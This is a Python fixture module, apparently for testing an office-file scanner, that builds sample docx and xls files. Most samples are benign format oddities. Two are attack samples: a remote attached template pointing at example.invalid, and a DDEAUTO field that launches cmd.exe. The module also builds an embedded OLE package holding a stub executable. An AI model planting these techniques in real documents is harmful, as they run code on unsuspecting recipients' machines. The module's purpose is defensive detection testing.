# ruff: noqa: E501, N806, PLW2901 - recipes, kept as short as they were found
"""Minimal office files of the kinds that strangers sent: FILES, name -> content."""

from __future__ import annotations

import io
import struct
import zipfile

FILES: dict[str, bytes] = {}
EXE = b"MZ\x90\0" + b"\0" * 56 + b"\x80\0\0\0" + b"\0" * 64 + b"PE\0\0" + b"\0" * 64


def put(name, data):
    FILES[name] = data


CT = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="svg" ContentType="image/svg+xml"/><Default Extension="png" ContentType="image/png"/><Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/><Default Extension="htm" ContentType="text/html"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
RELS = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>'
DOC = '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:body><w:p><w:r><w:t>Surat</w:t></w:r></w:p>%s</w:body></w:document>'


def docx(parts=(), body="", rels="", names=lambda n: n, ct=CT):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(names("[Content_Types].xml"), ct)
        z.writestr(names("_rels/.rels"), RELS)
        z.writestr(names("word/document.xml"), DOC % body)
        if rels:
            z.writestr(
                names("word/_rels/document.xml.rels"),
                f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rels}</Relationships>',
            )
        for n, d in parts:
            z.writestr(names(n), d)
    return b.getvalue()


put("ok_plain.docx", docx())
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><path d="M0 0h9v9z"/></svg>'
put(
    "fr_word365_icon_svg.docx",
    docx(
        [("word/media/image2.svg", SVG)],
        rels='<Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="media/image2.svg"/>',
    ),
)
put("fr_newline_behind.docx", docx() + b"\n")
put(
    "fr_altchunk_html.docx",
    docx(
        [("word/afchunk.htm", b"<html><body>Tabel</body></html>")],
        '<w:altChunk r:id="rId9" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/>',
        '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk" Target="afchunk.htm"/>',
    ),
)
put(
    "fa_remote_template.docx",
    docx(
        [
            (
                "word/settings.xml",
                '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/></w:settings>',
            ),
            (
                "word/_rels/settings.xml.rels",
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://example.invalid/a.dotm" TargetMode="External"/></Relationships>',
            ),
        ],
        rels='<Relationship Id="rId8" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/settings" Target="settings.xml"/>',
    ),
)
put(
    "fa_ddeauto.docx",
    docx(
        body='<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
    ),
)


def cfb(streams):
    """streams: {name: bytes}; every stream padded to >= 4096 so that no mini stream is needed."""
    SS = 512
    sect = []
    fat = []

    def add(data):
        n = (len(data) + SS - 1) // SS
        start = len(sect)
        for i in range(n):
            sect.append(data[i * SS : (i + 1) * SS].ljust(SS, b"\0"))
            fat.append(start + i + 1 if i < n - 1 else 0xFFFFFFFE)
        return start

    ents = [("Root Entry", 5, 0xFFFFFFFE, 0)]
    for n, d in streams.items():
        d = d.ljust(4096, b"\0")
        ents.append((n, 2, add(d), len(d)))
    raw = b""
    for i, (n, t, st, sz) in enumerate(ents):
        u = n.encode("utf-16le") + b"\0\0"
        right = i + 1 if 0 < i < len(ents) - 1 else 0xFFFFFFFF
        raw += u.ljust(64, b"\0") + struct.pack(
            "<HBBIII16sIQQIQ",
            len(u),
            t,
            1,
            0xFFFFFFFF,
            right if t == 2 else 0xFFFFFFFF,
            1 if t == 5 and len(ents) > 1 else 0xFFFFFFFF,
            b"\0" * 16,
            0,
            0,
            0,
            st,
            sz,
        )
    while len(raw) % SS:
        raw += (b"\0" * 66 + b"\0\0" + struct.pack("<III", *[0xFFFFFFFF] * 3) + b"\0" * 48)[:128]
    d0 = add(raw)
    nf = 1
    while (len(sect) + nf) * 4 > nf * SS:
        nf += 1
    f0 = len(sect)
    fatx = fat + [0xFFFFFFFD] * nf
    fatx += [0xFFFFFFFF] * (nf * SS // 4 - len(fatx))
    fb = struct.pack(f"<{len(fatx)}I", *fatx)
    hdr = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\0" * 16
        + struct.pack(
            "<HHHHH6xIIIIIIIII", 0x3E, 3, 0xFFFE, 9, 6, 0, nf, d0, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0
        )
    )
    hdr += struct.pack("<109I", *([f0 + i for i in range(nf)] + [0xFFFFFFFF] * (109 - nf)))
    return hdr + b"".join(sect) + fb


def package(name, data):
    b = (
        struct.pack("<H", 2)
        + name
        + b"\0"
        + b"C:\\"
        + name
        + b"\0"
        + struct.pack("<HHI", 0, 3, len(name) + 4)
        + b"C:\\"
        + name
        + b"\0"
        + struct.pack("<I", len(data))
        + data
    )
    return struct.pack("<I", len(b)) + b


ole = cfb({"\x01Ole10Native": package(b"faktur.exe", EXE)})
fib = struct.pack("<HHHHHHHIBB", 0xA5EC, 0xC1, 0, 0x409, 0, 0, 0xBF, 0, 0, 0)
bof = struct.pack("<HHHHHHII", 0x809, 16, 0x600, 5, 0x1FAF, 0x07CD, 0x80C1, 0x306) + struct.pack(
    "<HH", 0x0A, 0
)
put("ok_plain.xls", cfb({"Workbook": bof}))
put(
    "fr_excel5_95_book_stream.xls",
    cfb({"Book": struct.pack("<HHHHHH", 0x809, 8, 0x500, 5, 0x1FAF, 0x07CD) + struct.pack("<HH", 0x0A, 0)}),
)
put("fr_rtf_called.doc", b"{\\rtf1\\ansi Surat}")
put(
    "fr_html_table_called.xls",
    b"<html><head><meta charset=utf-8></head><body><table><tr><td>Nama</td></tr></table></body></html>",
)
put(
    "fr_spreadsheetml_called.xls",
    b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>',
)
put("fr_tsv_called.xls", "Nama\tNIP\r\nSiti\t1982\r\n".encode("latin-1"))


put("fr_vba_storage_name_without_code.xls", cfb({"Workbook": bof, "_VBA_PROJECT_CUR": b""}))
